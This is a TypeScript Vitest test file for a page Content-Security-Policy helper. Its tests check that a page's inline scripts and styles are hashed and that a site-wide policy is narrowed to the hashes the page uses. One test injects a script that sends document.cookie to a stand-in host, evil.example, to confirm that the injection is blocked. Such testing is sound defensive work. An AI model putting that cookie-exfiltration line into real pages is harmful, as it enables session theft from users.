import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { inlineHashes, narrowPolicy } from './page-csp.ts';

const hash = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const SITE_WIDE =
  "default-src 'self';object-src 'none'; script-src 'self' 'sha256-AAAA' 'sha256-BBBB'; style-src 'self' 'sha256-CCCC'; style-src-attr 'unsafe-inline';";
const PAGE = `<!doctype html><html><head><script>var a = 1;</script><style>p{color:red}</style>
<script type="module" src="/_astro/x.js"></script><script type="application/ld+json">{"a":1}</script>
</head><body><svg><style>.b{fill:red}</style></svg><script type="module">import('/y.js')</script><script>var a = 1;</script></body></html>`;

describe('page policy', () => {
  it('hashes the inline scripts and styles, not fetched scripts or data blocks, each once', () => {
    expect(inlineHashes(PAGE)).toEqual({
      scripts: [hash('var a = 1;'), hash("import('/y.js')")],
      styles: [hash('p{color:red}'), hash('.b{fill:red}')],
    });
  });

  it("keeps of the build's hashes those the page uses, and every other source and directive", () => {
    const built = `default-src 'self';object-src 'none'; script-src 'self' 'sha256-AAAA' ${hash('var a = 1;')} ${hash("import('/y.js')")}; style-src 'self' ${hash('p{color:red}')} ${hash('.b{fill:red}')} 'sha256-CCCC'; style-src-attr 'unsafe-inline';`;
    expect(narrowPolicy(built, PAGE)).toBe(
      `default-src 'self';object-src 'none';script-src 'self' ${hash('var a = 1;')} ${hash("import('/y.js')")};style-src 'self' ${hash('p{color:red}')} ${hash('.b{fill:red}')}; style-src-attr 'unsafe-inline';`,
    );
  });

  it('never allows an inline script or style the build did not make (an injection is blocked, not hashed)', () => {
    const injected = `${PAGE}<script>fetch('//evil.example?c='+document.cookie)</script><style>body{display:none}</style>`;
    const policy = narrowPolicy(`script-src 'self' ${hash('var a = 1;')}; style-src 'self' 'sha256-CCCC'`, injected);
    expect(policy).toBe(`script-src 'self' ${hash('var a = 1;')};style-src 'self'`);
    expect(policy).not.toContain(hash("fetch('//evil.example?c='+document.cookie)"));
    expect(policy).not.toContain(hash('body{display:none}'));
    // Nor a script of this page the build never listed.
    expect(narrowPolicy(SITE_WIDE, PAGE)).not.toContain(hash('var a = 1;'));
  });

  it('allows no inline code on a page that has none', () => {
    expect(narrowPolicy(SITE_WIDE, '<p>text</p>')).toBe(
      "default-src 'self';object-src 'none';script-src 'self';style-src 'self'; style-src-attr 'unsafe-inline';",
    );
  });
});
